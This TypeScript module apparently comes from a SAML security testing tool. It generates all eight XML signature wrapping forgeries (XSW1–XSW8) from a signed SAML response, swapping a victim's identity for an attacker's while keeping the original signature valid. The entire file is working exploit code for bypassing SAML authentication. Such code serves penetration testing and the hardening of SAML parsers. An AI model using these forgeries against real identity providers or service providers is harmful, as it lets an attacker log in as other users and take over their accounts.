/**
 * The eight forms of XML signature wrapping that SAML Raider (CompassSecurity/SAMLRaider, MIT) names XSW1 to XSW8, as changes of a response
 * text: a signature stays valid because what it was made over is still somewhere, while a reader is shown something else.
 */
interface Parts {
  text: string
  /** The signed assertion, with its signature. */
  assertion: string
  assertionSignature: string
  /** '' when the response is not signed. */
  responseSignature: string
  /** The assertion as the attacker wants it read, without a signature, under another id. */
  evil: string
}

export function wrappings(text: string, victim: string, attacker: string): [name: string, forged: string | undefined][] {
  const parts = partsOf(text, victim, attacker)
  const { assertion, assertionSignature: signature, responseSignature, evil } = parts
  const bare = assertion.replace(signature, '')
  const bareResponse = text.replace(responseSignature, '')
  /** The whole response as the attacker wants it, around the original one. */
  const evilResponse = (inside: string) =>
    bareResponse
      .replace(assertion, evil)
      .replace(/ ID="([^"]+)"/, ' ID="_evil_response"')
      .replace('<samlp:Status>', `${inside}<samlp:Status>`)
  const evilWith = (inner: string) => evil.replace('<saml:Subject>', `${inner}<saml:Subject>`)
  const inSignature = (content: string) => signature.replace(/(<\/(?:\w+:)?Signature>)$/, `${content}$1`)
  const onlyIfResponseSigned = (forged: string) => (responseSignature === '' ? undefined : forged)
  return [
    ['XSW1', onlyIfResponseSigned(evilResponse(responseSignature.replace(/(<\/(?:\w+:)?Signature>)$/, `${bareResponse}$1`)))],
    ['XSW2', onlyIfResponseSigned(evilResponse(`${bareResponse}${responseSignature}`))],
    ['XSW3', text.replace(assertion, `${evil}${assertion}`)],
    ['XSW4', text.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`))],
    ['XSW5', text.replace(assertion, `${evilWith(signature)}${bare}`)],
    ['XSW6', text.replace(assertion, evilWith(inSignature(bare)))],
    ['XSW7', text.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)],
    [
      'XSW8',
      text.replace(assertion, evilWith(inSignature(`<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${bare}</ds:Object>`))),
    ],
  ]
}

export function partsOf(text: string, victim = '', attacker = ''): Parts {
  const assertion = /<saml:Assertion .*<\/saml:Assertion>/s.exec(text)?.[0] ?? ''
  const signatureIn = (part: string) => /<(\w+:)?Signature .*?<\/\1Signature>/s.exec(part)?.[0] ?? ''
  const assertionSignature = signatureIn(assertion)
  const responseSignature = signatureIn(text.replace(assertion, ''))
  const evil = assertion
    .replace(assertionSignature, '')
    .replace(/ ID="[^"]+"/, ' ID="_evil_assertion"')
    .replaceAll(victim, attacker)
  return { text, assertion, assertionSignature, responseSignature, evil }
}
